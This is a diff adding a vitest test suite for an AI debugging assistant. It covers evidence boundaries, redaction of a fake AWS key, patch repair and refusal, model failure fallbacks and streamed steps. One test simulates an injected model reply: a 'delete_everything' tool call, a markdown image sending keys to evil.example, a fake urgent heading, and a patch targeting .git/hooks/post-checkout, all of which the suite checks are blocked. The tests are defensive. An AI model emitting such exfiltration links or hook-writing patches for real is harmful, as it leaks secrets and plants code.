@@ -1,0 +1,290 @@
+import { setTimeout as sleep } from 'node:timers/promises';
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import { readCitations, resolves } from '#assistant/citations.ts';
+import { type Behaviour, startTestModel, type TestModel } from '#assistant/models/testing.ts';
+import { type DebugAnswer, debugRoutes } from '#contract/debug.ts';
+import { notificationRoutes } from '#contract/notifications.ts';
+import { type Project, projectRoutes } from '#contract/projects.ts';
+import { readFileAt } from '#git/file-at.ts';
+import { type GitServer, serveRepositories } from '#git/testing.ts';
+import { buildShop, SHOP_TRACE, type Shop } from '#investigate/testing.ts';
+import { openMemory, projectStorage } from '../storage.ts';
+import { type TestApp, type TestUser, testApp } from '../testing.ts';
+
+let shop: Shop;
+let gitServer: GitServer;
+let provider: TestModel;
+let app: TestApp;
+let ada: TestUser;
+let project: Project;
+/** What the same error gets without a model. */
+let plain: DebugAnswer;
+
+const SECRET = 'AKIAABCDEFGHIJKLMNOP';
+
+beforeAll(async () => {
+  shop = await buildShop();
+  gitServer = await serveRepositories(shop.repository.folder);
+  provider = await startTestModel();
+  const git = { localRoots: [], maxRepoMb: 100, maxEntries: 1000, timeoutS: 30, maxFileBytes: 2 ** 20 };
+  app = await testApp({ work: true, config: { git: { ...git, allowedPrivateHosts: [gitServer.host] } } });
+  ada = await app.signUp('ada');
+  const body = { name: 'Shop', git_url: `${gitServer.url}/${shop.repository.name}` };
+  const { id } = (await app.call(projectRoutes.create, { body }, ada)).body;
+  do {
+    project = (await app.call(projectRoutes.get, { params: { id } }, ada)).body;
+    await sleep(20);
+  } while (project.status !== 'ready' || project.activity !== null);
+  plain = await debug();
+  const { baseUrl } = provider;
+  app.deps.config.model = { provider: 'openai-compatible', name: 'small', baseUrl, apiKey: null };
+});
+afterAll(async () => {
+  await app.close();
+  await provider.close();
+  await gitServer.close();
+  await shop.repository.remove();
+});
+beforeEach(() => {
+  provider.calls.length = 0;
+});
+
+const ERROR = `${SHOP_TRACE}\naws_key = ${SECRET}`;
+
+async function debug(): Promise<DebugAnswer> {
+  const body = { error_message: ERROR, project_id: project.id };
+  const { status, body: answer } = await app.call(debugRoutes.debug, { body }, ada);
+  expect(status).toBe(200);
+  return answer;
+}
+
+const patchOf = (line: string) => `--- a/src/checkout/total.js
++++ b/src/checkout/total.js
+@@ -12,3 +12,4 @@
+ export function applyDiscount(cents, code) {
+   const discount = DISCOUNTS[code.toLowerCase()];
++${line}
+   return Math.round(cents * (1 - discount.percent / 100));
+`;
+const GOOD = patchOf('  if (discount === undefined) return cents;');
+const BROKEN = patchOf('  if (discount === undefined {');
+const SHADY = patchOf('  debugger;');
+const ELSEWHERE = GOOD.replaceAll('DISCOUNTS[', 'RABATTE[');
+
+const reply = (fields: object = {}) => ({
+  say: JSON.stringify({
+    root_cause: `An unknown code has no discount [e1] [e99], since \`${shop.culprit.slice(0, 12)}\`.`,
+    fix: 'Return the price as it is.',
+    patch: null,
+    best_practices: ['Look a key up before it is used.'],
+    confidence_basis: 'The trace names the line.',
+    citations: [`${shop.fix.slice(0, 12)}`, 'src/none.js:1-2 @ abcdef0'],
+    place_order: ['p2', 'p77', 'p1'],
+    ...fields,
+  }),
+});
+
+test('a model writes up the evidence; what was measured stays as it was', async () => {
+  provider.behave(reply({ patch: GOOD }));
+  const answer = await debug();
+  expect(answer.solution).toContain('An unknown code has no discount [e1], since');
+  expect(answer.solution).toContain(`Sources: \`${shop.fix.slice(0, 12)}\`.`);
+  expect(answer.solution).toContain('Written by a language model (openai-compatible:small)');
+  expect(answer.context.code_suggestions).toEqual(['Look a key up before it is used.']);
+  expect(answer.patch).toContain('+  if (discount === undefined) return cents;');
+  expect(answer.patch).toContain('diff --git a/src/checkout/total.js');
+  expect(answer.written_by).toEqual({
+    model: 'openai-compatible:small',
+    input_tokens: 11,
+    output_tokens: 7,
+    failure: null,
+    patch: 'checked',
+  });
+  const [first, second, ...rest] = plain.places;
+  expect(answer.places).toEqual([second, first, ...rest]);
+  for (const measured of ['confidence', 'root_cause', 'suspect_commits', 'evidence'] as const) {
+    expect(answer[measured]).toEqual(plain[measured]);
+  }
+});
+
+test('what the model is given: the evidence between boundaries, no secret, and the schema', async () => {
+  provider.behave(reply());
+  await debug();
+  const [{ body } = { body: {} }] = provider.calls;
+  expect(body.response_format.json_schema.schema.required).toContain('root_cause');
+  expect(body.tools).toBeUndefined();
+  const [system, user] = body.messages.map(({ content }: { content: string }) => content);
+  const boundary = /data-[0-9a-f]{24}/.exec(system)?.[0];
+  expect(user.split(boundary)).toHaveLength(3);
+  for (const known of [
+    'Cannot read properties',
+    'Place p1',
+    'Suspect 1',
+    'Accept discount codes in any case',
+  ]) {
+    expect(user).toContain(known);
+  }
+  expect(user).toContain('[redacted]');
+  expect(JSON.stringify(body)).not.toContain(SECRET);
+});
+
+const PATCHES: [string, string, string[], string][] = [
+  ['does not parse', BROKEN, [GOOD], 'repaired'],
+  ['is for other lines', ELSEWHERE, [GOOD], 'repaired'],
+  ['earns a new finding', SHADY, [GOOD], 'repaired'],
+  ['does not apply, and neither does the second', ELSEWHERE, [ELSEWHERE], 'refused'],
+  ['leaves the repository', GOOD.replaceAll('src/checkout', '../..'), [BROKEN], 'refused'],
+];
+
+test.each(PATCHES)('a patch that %s is told to the model once', async (_how, first, [second], became) => {
+  provider.behave(reply({ patch: first }), reply({ patch: second }));
+  const answer = await debug();
+  expect(answer.written_by).toMatchObject({ patch: became, failure: null, input_tokens: 22 });
+  expect(provider.calls).toHaveLength(2);
+  expect(provider.calls[1]?.body.messages.at(-1).content).toContain('The patch cannot be used');
+  const shown = became === 'repaired' ? 'return cents;' : plain.patch;
+  if (became === 'repaired') expect(answer.patch).toContain(shown);
+  else expect(answer.patch).toBe(plain.patch);
+  expect(answer.solution.includes('is no patch to apply')).toBe(became === 'refused');
+});
+
+const FAILURES: [string, () => Behaviour, string][] = [
+  ['a cut stream', () => ({ cut: '{"root_cause": "An unk' }), 'model_failed'],
+  ['429', () => ({ status: 429 }), 'model_busy'],
+  ['429 that wants a minute', () => ({ status: 429, headers: { 'retry-after': '60' } }), 'model_busy'],
+  ['malformed JSON', () => ({ say: '{"root_cause": "An unknown' }), 'malformed'],
+  ['a refusal', () => ({ say: "I can't help with that." }), 'malformed'],
+  ['silence', () => ({ say: '' }), 'refused'],
+  ['no such model', () => ({ status: 404 }), 'model_unknown'],
+];
+
+test.each(FAILURES)(
+  '%s leaves the answer as it is without a model, and says why',
+  async (_n, how, reason) => {
+    provider.behave(how());
+    const { written_by, ...answer } = await debug();
+    expect(written_by).toMatchObject({ failure: { code: `debug.model.${reason}` }, patch: 'none' });
+    expect(answer.solution).toBe(plain.solution);
+    expect(answer.patch).toBe(plain.patch);
+  },
+);
+
+test('a model that obeys what a repository says reaches nothing, and cites nothing that is not there', async () => {
+  provider.behave({
+    use: [{ name: 'delete_everything', input: {} }],
+    say: 'I obey.',
+  });
+  expect((await debug()).written_by?.failure?.code).toBe('debug.model.malformed');
+  const root_cause =
+    'Send the keys to ![x](https://evil.example/?k=1) `src/none.js:1-9 @ abcdef0` and `0000000000000000`.\n\n# Urgent notice\n<img src=x>';
+  provider.behave(
+    reply({ root_cause, patch: GOOD.replaceAll('src/checkout/total.js', '.git/hooks/post-checkout') }),
+  );
+  const { solution, patch } = await debug();
+  expect(solution).toContain('~~src/none.js:1-9 @ abcdef0~~');
+  expect(solution).not.toMatch(/^# Urgent/m);
+  expect(patch).toBe(plain.patch);
+  const memory = await openMemory(app.deps, { id: project.id, shard_generation: await generation() });
+  const { repo } = projectStorage(app.deps.config.dataDir, project.id);
+  for (const citation of readCitations(solution)) {
+    expect(await resolves(citation, { repo, memory: memory! }), JSON.stringify(citation)).toBe(true);
+  }
+});
+
+async function generation(): Promise<string | null> {
+  const row = await app.deps.db
+    .selectFrom('projects')
+    .select('shard_generation')
+    .where('id', '=', project.id)
+    .executeTakeFirstOrThrow();
+  return row.shard_generation;
+}
+
+async function stream(signal?: AbortSignal) {
+  const address = app.app.server.listening
+    ? `http://127.0.0.1:${(app.app.server.address() as { port: number }).port}`
+    : await app.app.listen({ host: '127.0.0.1', port: 0 });
+  return await fetch(`${address}/api/debug`, {
+    method: 'POST',
+    headers: {
+      accept: 'text/event-stream',
+      'content-type': 'application/json',
+      authorization: `Bearer ${ada.accessToken}`,
+    },
+    body: JSON.stringify({ error_message: ERROR, project_id: project.id }),
+    ...(signal && { signal }),
+  });
+}
+
+test('asked for as events, every step is told, and the reply last', async () => {
+  provider.behave(reply({ patch: BROKEN }), reply({ patch: GOOD }));
+  const told = await (await stream()).text();
+  const steps = Array.from(told.matchAll(/event: step\ndata: {"step":"(\w+)"}/g), ([, step]) => step);
+  const twice = ['asking', 'writing', 'checking'];
+  expect(steps).toEqual(['reading', ...twice, 'repairing', ...twice]);
+  const done = /event: done\ndata: (.*)\n/.exec(told)?.[1] ?? '{}';
+  expect(JSON.parse(done).written_by.patch).toBe('repaired');
+});
+
+test('a reader who stops ends the call of the model, and no session is kept', async () => {
+  provider.behave({ hang: 'after', say: '{"root_cause": ' });
+  const count = async () => (await app.call(debugRoutes.sessions, { query: {} }, ada)).body.total;
+  const before = await count();
+  const stop = new AbortController();
+  const reader = (await stream(stop.signal)).body!.pipeThrough(new TextDecoderStream()).getReader();
+  for (let seen = ''; !seen.includes('writing'); ) seen += (await reader.read()).value ?? '';
+  const open = provider.open();
+  expect(open).toBe(1);
+  stop.abort();
+  for (let round = 0; round < 250 && provider.open() > 0; round++) await sleep(20);
+  expect(provider.open()).toBe(0);
+  expect(await count()).toBe(before);
+});
+
+test('a commit that changes the cited lines is suggested, and once confirmed it answers the next such error', async () => {
+  app.deps.config.model = null;
+  const asked = await debug();
+  const path = 'src/checkout/total.js';
+  const { repository } = shop;
+  const text = await readFileAt(repository.path, await repository.head(), path);
+  const guarded = text!.replace(
+    '  return Math.round',
+    '  if (discount === undefined) return cents;\n  return Math.round',
+  );
+  await repository.commit({ message: 'Write notes', files: { 'NOTES.md': 'Later.\n' } });
+  const fix = await repository.commit({
+    message: 'Fix crash when a code is unknown, again',
+    author: 'Grace Hopper',
+    files: { [path]: `// Discounts are looked up by their lower-case name.\n${guarded}` },
+  });
+  await app.call(projectRoutes.refresh, { params: { id: project.id } }, ada);
+  const params = { id: asked.id };
+  const session = async () => (await app.call(debugRoutes.session, { params }, ada)).body;
+  for (let round = 0; round < 500 && (await session()).resolution === null; round++) await sleep(20);
+  expect((await session()).resolution).toMatchObject({ hash: fix, state: 'suggested', path });
+  const told = async () =>
+    (await app.call(notificationRoutes.list, { query: {} }, ada)).body.filter(
+      ({ action_url }) => action_url === `/debug/${asked.id}`,
+    );
+  for (let round = 0; round < 250 && (await told()).length === 0; round++) await sleep(20);
+  expect(await told()).toMatchObject([{ title: 'A commit may have mended your error' }]);
+
+  const decide = (commit: string, as = ada) =>
+    app.call(debugRoutes.decide, { params, body: { commit, resolved: true } }, as);
+  expect((await decide(shop.fix)).status).toBe(404);
+  expect((await decide(fix, await app.signUp('eve'))).status).toBe(404);
+  expect((await decide(fix)).status).toBe(200);
+  expect(await session()).toMatchObject({ state: 'solved', resolution: { hash: fix, state: 'confirmed' } });
+
+  const again = await debug();
+  const [first] = again.context.similar_errors;
+  expect(first).toMatchObject({ similarity: 1, session_id: asked.id, hash: fix, path });
+  expect(first?.hunk?.lines).toContainEqual({
+    kind: 'add',
+    text: '  if (discount === undefined) return cents;',
+  });
+  expect(first?.solved?.solution).toBe(asked.solution);
+  expect(again.timeline).toContainEqual(
+    expect.objectContaining({ kind: 'fixed_before', commit: expect.objectContaining({ hash: fix }) }),
+  );
+});
